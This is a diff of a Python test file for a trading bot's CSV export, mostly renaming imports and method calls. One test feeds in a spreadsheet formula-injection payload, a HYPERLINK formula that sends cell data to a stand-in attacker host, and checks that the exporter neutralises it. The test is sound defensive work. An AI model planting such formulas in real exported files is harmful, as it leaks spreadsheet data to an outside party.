@@ -12,8 +12,8 @@ import pyarrow as pa  # type: ignore[import-untyped]  # has no types
 import pyarrow.parquet as pq  # type: ignore[import-untyped]  # has no types
 import pytest
 
-from bot.export import ROWS_AT_ONCE, TABLES, export
-from bot.listeners.words import reason
+from bot.cli.table_files import ROWS_AT_ONCE, TABLES, export
+from bot.listeners.parsing import reason
 from engine.adapters.sql.tables import AuditRow, DecisionRow, OrderRow, TradeRow
 from engine.errors import SettingsInvalid
 from engine.model.desk import AuditEntry, Request
@@ -159,11 +159,11 @@ def test_a_traders_words_are_no_formula_in_any_export(tmp_path: Path) -> None:
     trade = rig.play_the_signal()
     assert trade is not None
     said = reason('=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")')
-    rig.engine.reject(trade.id, Request(by="U0TRADER", said=said, id="1"), said)
+    rig.engine.commands.reject(trade.id, Request(by="U0TRADER", said=said, id="1"), said)
     cells = []
     for table in TABLES:
-        with rig.store.reading() as ledger:
-            export(table, ledger.rows(table), tmp_path / f"{table}.csv")
+        with rig.store.reading() as reader:
+            export(table, reader.rows(table), tmp_path / f"{table}.csv")
         cells += [cell for row in _csv(tmp_path / f"{table}.csv") for cell in row.values()]
     assert [cell for cell in cells if "HYPERLINK" in cell] == [f"'{said}"] * 4
     assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
